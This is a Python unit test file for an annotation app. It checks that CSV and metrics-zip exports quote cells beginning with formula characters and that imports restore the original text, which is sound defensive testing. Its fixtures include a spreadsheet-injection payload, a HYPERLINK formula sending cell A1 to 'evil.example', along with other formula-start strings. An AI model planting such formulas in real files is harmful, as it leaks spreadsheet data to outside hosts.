"""Every CSV the app writes is safe to open in a spreadsheet (issue 16, point 3).

A text cell starting with `= + - @` (labels, account names, file names) would run as a
formula in Excel or LibreOffice: it goes out with a leading `'`; numbers stay numbers; the
CSV importers read back exactly the text that was exported.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

from PIL import Image

from callbacks import agreement
from domain.annotation import Annotation
from domain.labels import parse_labels
from formats.csv_normalized import export_csv_normalized
from formats.csv_tidy import export_csv
from formats.model import ExportSet, ImageAnnotations, ImageRef, Shape
from formats.registry import CODECS, read_upload
from formats.resolve import resolve
from formats.spreadsheet import neutralise, restore
from tests.unit.callback_support import install_services
from tests.unit.conftest import CREATED
from workflows.history import history_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
EVIL_IMAGE = ImageRef("=x.png", 640, 480)
PLAIN_IMAGE = ImageRef("+plain.png", 300, 500)
LABELS = ("=cat", "-dog", "person")


def evil_set() -> ExportSet:
    return ExportSet(
        LABELS,
        (
            ImageAnnotations(
                EVIL_IMAGE,
                "@alice",
                (
                    Shape("=cat", "rect", (10.0, 20.0, 110.0, 70.0)),
                    Shape("-dog", "polygon", (), ((5.0, 6.0), (250.0, 40.5), (120.25, 470.0))),
                ),
            ),
            ImageAnnotations(EVIL_IMAGE, HYPERLINK, ()),
            ImageAnnotations(PLAIN_IMAGE, "bob", (Shape("person", "rect", (0.0, 0.0, 3.5, 4.0)),)),
        ),
    )


def rows(data: bytes | str) -> list[list[str]]:
    text = data.decode() if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text)))


def formula_cells(table: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: text starting with a formula character."""
    return [
        cell
        for row in table
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not is_number(cell)
    ]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_tidy_csv_quotes_labels_annotators_and_file_names_that_start_a_formula() -> None:
    table = rows(export_csv(evil_set()))

    assert table[1][:4] == ["'=x.png", "'@alice", "'=cat", "rect"]
    assert table[2][:3] == ["'=x.png", "'@alice", "'-dog"]
    assert table[3][:2] == ["'=x.png", "'" + HYPERLINK]
    assert table[4][:3] == ["'+plain.png", "bob", "person"]
    assert formula_cells(table) == []


def test_the_normalized_csv_quotes_labels_and_file_names_that_start_a_formula() -> None:
    table = rows(export_csv_normalized(evil_set()))

    assert table[1][:2] == ["'=x.png", "'=cat"]
    assert table[2][:2] == ["'=x.png", "'-dog"]
    assert table[4][:2] == ["'+plain.png", "person"]
    assert formula_cells(table) == []


def test_numbers_stay_numbers_even_when_negative() -> None:
    below = ImageAnnotations(
        ImageRef("a.png", 100, 100), "bob", (Shape("person", "rect", (-3.5, -0.25, 50.0, 1e-7)),)
    )
    data = ExportSet(LABELS, (below,))

    tidy = rows(export_csv(data))
    normalized = rows(export_csv_normalized(data))

    assert tidy[1][4:8] == ["-3.5", "-0.25", "50", "0"]
    assert normalized[1][2:4] == ["-0.03500000", "-0.00250000"]
    assert (
        neutralise(-3.5) == -3.5 and neutralise("-3.5") == "-3.5" and neutralise("+1e5") == "+1e5"
    )
    assert neutralise("-3.5x") == "'-3.5x" and neutralise("-") == "'-"


def test_full_width_tab_and_carriage_return_starts_are_quoted_too() -> None:
    for text in ("＝1+1", "＋1", "－1", "＠SUM(A1)", "\t=1", "\r=1"):
        assert neutralise(text) == "'" + text
        assert restore(str(neutralise(text))) == text


def test_labels_annotators_and_file_names_come_back_exactly_from_the_tidy_csv() -> None:
    labels = tuple(label.name for label in parse_labels(",".join(LABELS)))  # allowed labels
    images = {EVIL_IMAGE.key: EVIL_IMAGE, PLAIN_IMAGE.key: PLAIN_IMAGE}

    raw = read_upload(CODECS["csv"], "a.csv", export_csv(evil_set()), labels)
    back = resolve(raw, images, labels, "import")

    assert back == sorted(evil_set().items, key=lambda i: (i.image.key, i.annotator))


def test_labels_and_file_names_come_back_exactly_from_the_normalized_csv() -> None:
    images = {EVIL_IMAGE.key: EVIL_IMAGE, PLAIN_IMAGE.key: PLAIN_IMAGE}

    raw = read_upload(CODECS["csv-normalized"], "a.csv", export_csv_normalized(evil_set()), LABELS)
    back = resolve(raw, images, LABELS, "import")

    found = {(i.image.key, s.label) for i in back for s in i.shapes}
    assert found == {("=x.png", "=cat"), ("=x.png", "-dog"), ("+plain.png", "person")}


def test_text_that_already_starts_with_a_quote_survives_the_round_trip() -> None:
    for text in ("'=x", "''-y", "'plain", "it's", "'", "'-3.5"):
        written = neutralise(text)
        assert isinstance(written, str) and restore(written) == text
    assert restore("'=x") == "=x" and restore("'hello") == "'hello"


def annotation(key: str, who: str, label: str) -> Annotation:
    return Annotation(
        id=f"{who}-1",
        image_key=key,
        annotator=who,
        label=label,
        kind="rect",
        coords=(1.0, 2.0, 30.0, 40.0),
        created_at=CREATED,
        updated_at=CREATED,
    )


def test_the_history_csv_quotes_actors_annotators_and_file_names(tmp_path: Path) -> None:
    services = install_services(tmp_path)
    services.store.sync_image(
        "=x.png", "@alice", [annotation("=x.png", "@alice", "person")], actor=HYPERLINK
    )

    table = rows(history_csv(services))

    header, event = table[0], dict(zip(table[0], table[1], strict=True))
    assert header[2:5] == ["actor", "image_key", "annotator"]
    assert (event["actor"], event["image_key"], event["annotator"]) == (
        "'" + HYPERLINK,
        "'=x.png",
        "'@alice",
    )
    assert event["after"].startswith('{"coords": [1.0, 2.0, 30.0, 40.0]')  # JSON as it was
    assert formula_cells(table) == []


def metrics_project(tmp_path: Path) -> dict[str, Any]:
    folder = tmp_path / "images"
    folder.mkdir(parents=True)
    Image.new("RGB", (400, 200)).save(folder / "a.png")
    Image.new("RGB", (400, 200)).save(folder / "b.png")
    services = install_services(tmp_path)
    for who, box in ((HYPERLINK, (10, 10, 110, 110)), ("-bob", (12, 12, 112, 112))):
        for key in ("a.png", "b.png"):
            record = annotation(key, who, "person")
            record = Annotation(**{**record.__dict__, "id": f"{who}-{key}", "coords": box})
            services.store.sync_image(key, who, [record])
    data, _key, message = agreement.agreement_job(0.5, None, lambda done, what: None)
    assert message.color == "success"
    return data


def test_the_metrics_zip_quotes_annotator_names(tmp_path: Path) -> None:
    data = metrics_project(tmp_path)

    archive = zipfile.ZipFile(io.BytesIO(agreement.metrics_archive(data)))

    pairwise = rows(archive.read("pairwise.csv").decode())
    people = rows(archive.read("annotators.csv").decode())
    pair = dict(zip(pairwise[0], pairwise[1], strict=True))
    assert {pair["a"], pair["b"]} == {"'" + HYPERLINK, "'-bob"}
    names = [dict(zip(people[0], row, strict=True))["annotator"] for row in people[1:]]
    assert sorted(names) == sorted(["'" + HYPERLINK, "'-bob"])
    for name in archive.namelist():
        assert formula_cells(rows(archive.read(name).decode())) == [], name
    assert float(pair["f1"]) == 1.0  # numbers are untouched
